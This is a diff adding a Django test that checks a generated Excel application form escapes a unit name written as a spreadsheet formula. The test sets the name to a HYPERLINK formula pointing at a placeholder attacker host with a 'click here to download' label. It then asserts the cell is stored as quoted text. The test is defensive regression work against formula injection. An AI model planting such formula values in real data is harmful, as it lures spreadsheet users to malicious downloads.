@@ -32,6 +32,26 @@ def test_guide_has_conditions_materials_and_form(client, office):
     assert sheet["E2"].value == office.personas.unit.number
 
 
+def test_a_unit_name_like_a_formula_is_text_in_the_application_form(client, office):
+    """openpyxl writes a string starting with = as a formula: a unit named so in
+    a registry import ran in every operator's Excel that opened the 申请表."""
+    import io
+
+    from openpyxl import load_workbook
+
+    unit = office.personas.unit
+    unit.name = '=HYPERLINK("http://evil.example","点此下载")'
+    unit.save(update_fields=["name"])
+    client.force_login(office.personas.unit_user)
+    response = client.get(reverse("employer:guide-form"))
+    sheet = load_workbook(io.BytesIO(b"".join(response.streaming_content))).active
+    cell = sheet["B2"]
+    assert cell.data_type == "s"
+    assert cell.value == unit.name
+    assert cell.quotePrefix
+    assert sheet["B3"].data_type == "s"
+
+
 def test_agreeing_records_operator_version_time_and_address(client, office, settings):
     personas = office.personas
     client.force_login(personas.unit_user)
